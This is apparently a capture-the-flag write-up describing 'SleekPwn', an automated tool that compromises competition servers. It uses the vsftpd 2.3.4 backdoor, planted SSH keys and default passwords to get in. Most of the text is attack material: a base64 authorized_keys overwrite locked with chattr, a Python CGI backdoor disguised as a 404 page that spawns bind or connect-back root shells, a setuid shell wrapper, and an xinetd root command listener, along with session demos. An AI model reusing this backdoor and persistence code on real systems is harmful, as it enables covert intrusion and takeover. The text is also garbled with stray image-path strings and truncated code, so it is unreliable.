    • requests,for better web networking
    • jquery, for the javascript web bits
  • Payloads are written in:
    • Shell Script
    • Python
    • C
  • Is multi-threaded and handles scale very well
    • Is fault tolerant and very robust
  • Fire-and-Forget
    • There is no requirement for any intervention during the runtime
    • Will compromise targets automatically
    • Will monitor for reverts and automatically re-compromise
  • Maintains Persistence
    • Multiple avenues of persistence to regain entry
    • Extremely robust embedding
  • Maintains Un-Integrity of Flags
    • Corrupts the publicly accessible flags on detection that the flags have been recovered.
    • Leverages extended file attributes to make it difficult for defenders to defeat
    • Process respawns automatically on kill
  • Patches the Target System
    • Fixes the vulnerabilities on a compromised system after persistence has been maintained
  • Written over 2 days

What it is not

  • Not a script kiddie tool• This is a very domain specific system tailored for this competition
  • Not easy to set up
    • I had to patch pwntools at a few places to fix debilitating bugs caused by that library
    • Generation of the target configuration might require writing your own scripts
    • Heavy editing of the source code is required to adapt this to your needs
    • You need to generate your own keys


SleekPwn attempts to compromise a system in three tiers:

  1. vsftpd 2.3.4 backdoor
  2. planted ssh keys (during the training)
  3. default root passwords

If anyone of these access methods are successful, SleekPwn will immediately deliver the first stage payload which overwrites /root/.ssh/authorized_keys with our public key in addition to the Gamemaster’s keys.

[[email protected] ~]# cat /root/.ssh/authorized_keysssh-rsa AAAAB3NzaC1yc2EAAAABIwAAAQEAvwm+v3g/s0lLXRcoPH/3a7++lYWoEtq/11yZ6gOLVnFgDOzhQEpufwTqTNetzEw7BCeotpz8ZiG+fGAWvIdmGfErDzi6tuZWWj4uOh20T/sjimf40TGpggmCsfuNSm1AX0s0tXSYOIqPT1gR1fz71k4U/UeZhTiEmFQxG3aSu5SRrnWIJNjYRJm/Rd/JYPamq62loBM/oG4j8of62hbev2ua9jgL/E6GJ06YUto+ZpSG3ZMpzom6uVWYVC+ilneCHvMvMv0t7fdrM8I2SNtkHdGrUQOKKqaX3qlD6l3NMsnCk8gYDxP9H94/kW3YQH0FYuU+o8zC5LS+a4BIKOIgcw== [email protected]
ssh-rsa AAAAB3NzaC1yc2EAAAABIwAAAQEA4t1mFzyRRmYqPcB4Oy5WJ9iugrjUhTnw4fvpby/UndFqGV8LaZ3z/pkcMaFugZ0b7wfrtC1i6M8vzm4N7JDK2a/DoJa0mPW6w0uZHsSD1Yrf/MBOPmkc/1o/CT4x7HakPRwg3d0aPNJpeShU/PViQ89PqG3UV8wFojudjfcFO7CN3Krzsx/InL2fBrnClf7VxQ3bZQ/uN9usNymeOJ0mX7bERliGmKUVUT2bjMSQ6sKsrJvScnJRzm6vv2q0nyigetjrmQAFYdHJJE8AWQ7IxlKIJ07yjWKgnWvJ6/7OfDfLJu/P6Ph53kHxHukaHwPjfmGd+8eGO6DhZpTYeameWQ== [email protected]
ssh-rsaAAAAB3NzaC1yc2EAAAABIwAAAQEAoymQmh2ZwkUwnNxe0VSmAdDrbroBnwrJNmTizkx2CoOVmx/NINPCaz68f1HfwERxJRjeNz+ABwtFPh5oprZSy1FPMywQGIpkB4Zg1TEo35ZB+ZijqdCx/L8LXAfpBconPdKsg5TubJczR6E93S/AQFqEqg617GzvcjnP6cEdhxtv9yBW4k6lsTsFn9ZbBLoIu5d59NfMzNp6DDU8Ct6aUIlY5WcpEoBTdFKJQChtdh4hhn3TxenWdBp+RtQ50dtazIG+XUaT9ju5g0jSU4sTN4yRRKgXVRMO5rPTVnRdfnbG3MMGGWLI3cOw7upT7xdaJQAvcfPB+A2rVPXNZ1Ejmw== [email protected]

It then overwrites /etc/ssh/sshd_config to allow root connections and restarts the ssh server. From then on, it connects using SSH to prevent sniffing of traffic. It uploads the second stage payload which handles the extra persistence, sabotage, and patching functionality.

If these fail, it will try to check if their vsftpd 2.3.4 is the patch binary version we replace in the egress stage (see the Patching section).


SleekPwn maintains its persistence on a target machine in four ways:

1. SSH keysInstalling our public key in /root/.ssh/authorized_keys andsetting that file to be immutable.

# 4. recheck the authorized_keys
cat /root/.ssh/authorized_keys | md5sum | grep 0975089eafc21739df2b9a9a930bc0ba || sh -c 'chattr -i /root/.ssh/authorized_keys; printf"c3NoLXJzYSBBQUFBQjNOemFDMXljMkVBQUFBQkl3QUFBUUVBdndtK3YzZy9zMGxMWFJjb1BILzNhNysrbFlXb0V0cS8xMXlaNmdPTFZuRmdET3poUUVwdWZ3VHFUTmV0ekV3N0JDZW90cHo4WmlHK2ZHQVd2SWRtR2ZFckR6aTZ0dVpXV2o0dU9oMjBUL3NqaW1mNDBUR3BnZ21Dc2Z1TlNtMUFYMHMwdFhTWU9JcVBUMWdSMWZ6NzFrNFUvVWVaaFRpRW1GUXhHM2FTdTVTUnJuV0lKTmpZUkptL1JkL0pZUGFtcTYybG9CTS9vRzRqOG9mNjJoYmV2MnVhOWpnTC9FNkdKMDZZVXRvK1pwU0czWk1wem9tNnVWV1lWQytpbG5lQ0h2TXZNdjB0N2Zkck04STJTTnRrSGRHclVRT0tLcWFYM3FsRDZsM05Nc25DazhnWUR4UDlIOTQva1czWVFIMEZZdVUrbzh6QzVMUythNEJJS09JZ2N3PT0gcm9vdEBidApzc2gtcnNhIEFBQUFCM056YUMxeWMyRUFBQUFCSXdBQUFRRUE0dDFtRnp5UlJtWXFQY0I0T3k1V0o5aXVncmpVaFRudzRmdnBieS9VbmRGcUdWOExhWjN6L3BrY01hRnVnWjBiN3dmcnRDMWk2TTh2em00TjdKREsyYS9Eb0phMG1QVzZ3MHVaSHNTRDFZcmYvTUJPUG1rYy8xby9DVDR4N0hha1BSd2czZDBhUE5KcGVTaFUvUFZpUTg5UHFHM1VWOHdGb2p1ZGpmY0ZPN0NOM0tyenN4L0luTDJmQnJuQ2xmN1Z4UTNiWlEvdU45dXNOeW1lT0owbVg3YkVSbGlHbUtVVlVUMmJqTVNRNnNLc3JKdlNjbkpSem02dnYycTBueWlnZXRqcm1RQUZZZEhKSkU4QVdRN0l4bEtJSjA3eWpXS2duV3ZKNi83T2ZEZkxKdS9QNlBoNTNrSHhIdWthSHdQamZtR2QrOGVHTzZEaFpwVFllYW1lV1E9PSByb290QGJ0CnNzaC1yc2EgQUFBQUIzTnphQzF5YzJFQUFBQUJJd0FBQVFFQW95bVFtaDJad2tVd25OeGUwVlNtQWREcmJyb0Jud3JKTm1UaXpreDJDb09WbXgvTklOUENhejY4ZjFIZndFUnhKUmplTnorQUJ3dEZQaDVvcHJaU3kxRlBNeXdRR0lwa0I0WmcxVEVvMzVaQitaaWpxZEN4L0w4TFhBZnBCY29uUGRLc2c1VHViSmN6UjZFOTNTL0FRRnFFcWc2MTdHenZjam5QNmNFZGh4dHY5eUJXNGs2bHNUc0ZuOVpiQkxvSXU1ZDU5TmZNek5wNkREVThDdDZhVUlsWTVXY3BFb0JUZEZLSlFDaHRkaDRoaG4zVHhlbldkQnArUnRRNTBkdGF6SUcrWFVhVDlqdTVnMGpTVTRzVE40eVJSS2dYVlJNTzVyUFRWblJkZm5iRzNNTUdHV0xJM2NPdzd1cFQ3eGRhSlFBdmNmUEIrQTJyVlBYTloxRWptdz09IHJvb3RAYnQK" | base64 -d > /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys'

2. CGI Shells

Creating a new CGI directory in the /etc/httpd/conf/httpd.conf configurations that map /cgi/ to /usr/lib/yum-plugins/, and uploading a special python CGI script to /usr/lib/yum-plugins/.gh. The CGI script:

# by amon ([email protected])

import cgiimport socket
import md5
import os
import subprocess

notfound = """
<title>404 Not Found</title>
<h1>Not Found</h1>
<p>The requested URL /cgi/.gh was not found on this server.</p>

print "Content-type:text/html\r\n\r\n"
print notfound

form = cgi.FieldStorage()
if "r" not in form:r = int(form["r"].value.strip())
if "cb" not in form:
    serversocket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    serversocket.bind(("", r))

    (clientsocket, address) = serversocket.accept()
    cb = form["cb"].value
    clientsocket = socket.socket()
    clientsocket.connect((cb, r))

clientsocket.sendall("Breakfast Club?")
data = clientsocket.recv(20)
if md5.md5(data.strip()).hexdigest() == "f8b882394d662869d6f550d9112ce82e":clientsocket.sendall("Judd Nelson?")
    os.dup2(clientsocket.fileno(), 0)
    os.dup2(clientsocket.fileno(), 1)
    os.dup2(clientsocket.fileno(), 2)["/bin/sh","-i"])

It masquerades as a HTTP 404 error but is actually able to create listener shells or trigger connect back shells. The script accepts two parameters: cb and r. ‘r’ refers to the port. This parameter is required. ‘cb’ is the callback address. This is optional. If ‘cb’ is supplied, the remote machine will connect to the local machine at the port. The interesting thing about the backdoor is, it requires a password so an enterprising system admin who has spotted the script can’t simply start spawning shells of his own.

Demo of Listener Shell:

[email protected]:~/ctf2015/cddc/sleekpwn$ curl &
[1] 8709
[email protected]:~/ctf2015/cddc/sleekpwn$ nc 1337
Breakfast Club?Claire Standish
<title>500 Internal Server Error</title>
<h1>Internal Server Error</h1>
<p>The server encountered an internal error or
misconfiguration and was unable to complete
your request.</p>
<p>Please contact the server administrator,
 [email protected] and inform them of the time the error occurred,
and anything you might have done that may have
caused the error.</p>
<p>More information about this error may be availablein the server error log.</p>
<address>Apache/2.2.14 (Fedora) Server at Port 8080</address>
sh: no job control in this shell
sh-3.2$ id
uid=48(apache) gid=48(apache) groups=48(apache)
sh-3.2$ /usr/lib/yum-plugins/sys
uid=0(root) gid=0(root) groups=48(apache)

Callback Shell:

[email protected]:~/ctf2015/cddc/sleekpwn$ curl\&cb=
[email protected]:~/ctf2015/cddc/sleekpwn$ nc -l -p 1337
Breakfast Club?Claire Standish
Judd Nelson?sh: no job control in this shell
sh-3.2$ /usr/lib/yum-plugins/sys
uid=0(root) gid=0(root)groups=48(apache)

Setuid Binaries

Uploading a setuid binary wrapper around a shell to escalate a user to root. This means we could have logged in as public even if all other backdoors were removed and still have escalated to root. This was demonstrated in the CGI backdoor in the previous point. Here is a demo of it in action when accessing the target server with the default public:password credentials (which is required for defence points).

[email protected]:~/ctf2015/cddc/sleekpwn$ ssh [email protected]
[email protected]'s password:
Last login: Thu Jun 18 13:37:51 2015 from
[[email protected] ~]$ iduid=500(public) gid=500(public) groups=500(public)
[[email protected] ~]$ cd /usr/lib/yum-plugins/
[[email protected] yum-plugins]$ ls -la
total 32
drwxr-xr-x  2 root root  4096 2015-06-18 13:27 .
drwxr-xr-x 30 root root 12288 2013-11-08 16:40 ..
-rw-r--r--  1 root root  1914 2015-06-18 13:27 cat.asc
-rwxr-xr-x  1 root root  1145 2015-06-18 13:27 .gh
-rwsr-sr-x  1 root root  5169 2015-06-18 13:27 sys
[[email protected] yum-plugins]$ ./sys
sh-3.2# id
uid=0(root) gid=0(root) groups=500(public)

Custom xinetd Service

Configured xinetd to listen on 6660 and run the special python script called pyx that authenticates a password. This service facilitates mass control of all the targets.

Custom xinetd service:

[[email protected] ~]# cat /etc/xinetd.d/pyx
service pyx
        socket_type             = stream
        wait                    = no
        user                    = rootserver                  = /usr/sbin/pyx
#       server_args             =
#       log_on_success          += DURATION USERID
#       log_on_failure          += USERID
        nice                    = 10
        disable                 = no
        port                    = 6660

Custom python listener:

# by amon ([email protected])

import sys
import md5
import os

data = sys.stdin.readline().strip()
    auth, cmd = data.split(":::")
    if md5.md5(auth).hexdigest() == "b41135d9bda51105855aeeb3c4aa7e5a":

Additionally, we have a tool that uses multi-threading to send commands to a very large list of hosts using this backdoor.

[email protected]:~/ctf2015/cddc/sleekpwn/dev/badbitches$ cat catstorm | python demohosts
Working on
Working on cmd sent successfully cmd failed to send

